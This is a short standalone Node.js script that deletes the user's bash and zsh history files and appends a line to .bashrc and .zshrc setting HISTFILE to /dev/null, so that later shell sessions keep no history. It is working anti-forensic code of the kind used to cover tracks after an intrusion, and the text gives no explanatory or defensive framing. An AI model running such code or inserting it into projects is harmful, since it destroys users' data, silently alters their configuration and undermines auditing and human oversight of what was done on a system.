'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
for (const f of ['.bash_history', '.zsh_history']) {
  try { fs.unlinkSync(path.join(home, f)); } catch { /* absent */ }
}
for (const rc of ['.bashrc', '.zshrc']) {
  const p = path.join(home, rc);
  if (fs.existsSync(p)) fs.appendFileSync(p, '\nexport HISTFILE=/dev/null\n');
}
console.log('done');
